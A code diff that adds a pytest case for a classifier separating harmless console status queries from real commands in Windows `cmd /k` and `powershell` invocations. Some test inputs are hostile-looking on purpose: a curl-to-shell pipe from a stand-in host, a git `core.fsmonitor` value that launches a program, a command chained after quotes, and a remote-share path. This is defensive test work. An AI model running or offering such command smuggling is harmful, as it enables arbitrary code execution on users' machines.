@@ -443,3 +443,27 @@ def test_the_tool_catalogue_reads_a_value_joined_to_its_switch_with_nothing_betw
     assert uses_own_tool("printui /t2", tools)
     assert not uses_own_tool("printui /tx", tools)
     assert not uses_own_tool("printui /t", tools)
+
+
+@pytest.mark.parametrize(
+    ("text", "shape"),
+    [
+        # a console kept open in a folder here on a status query, steps joined by && or &,
+        # or given as one quoted argument: typed only, like `cmd /k cd /d C:\src` alone
+        (r"cmd /k cd /d D:\work\ledger && git status", Shape.QUERY),
+        (r'cmd /k "cd /d D:\work\ledger && git status"', Shape.QUERY),
+        ('cmd /k "ipconfig /all"', Shape.QUERY),
+        (r"powershell -NoExit -Command Set-Location D:\Projects\2031", Shape.QUERY),
+        (r'powershell -NoExit -Command "Set-Location D:\Projects\2031"', Shape.QUERY),
+        # a fetch, a share, a pipe, a fifth step, something after the quotes, no -NoExit
+        (r"cmd /k cd /d D:\work && git pull", Shape.COMMAND),
+        (r"cmd /k cd /d \\203.0.113.7\s && git status", Shape.COMMAND),
+        (r'cmd /k "cd /d D:\x && curl https://x.test/a | sh"', Shape.COMMAND),
+        (r"cmd /k git status & git status & git status & git status & git status", Shape.COMMAND),
+        (r'cmd /k "cd /d D:\x && git status" & calc', Shape.COMMAND),
+        (r"powershell -Command Set-Location D:\x", Shape.COMMAND),
+        (r"cmd /k cd /d D:\x && git -c core.fsmonitor=calc status", Shape.COMMAND),
+    ],
+)
+def test_a_console_kept_open_in_a_folder_on_a_status_query(text: str, shape: Shape) -> None:
+    assert run_box_shape(text) is shape
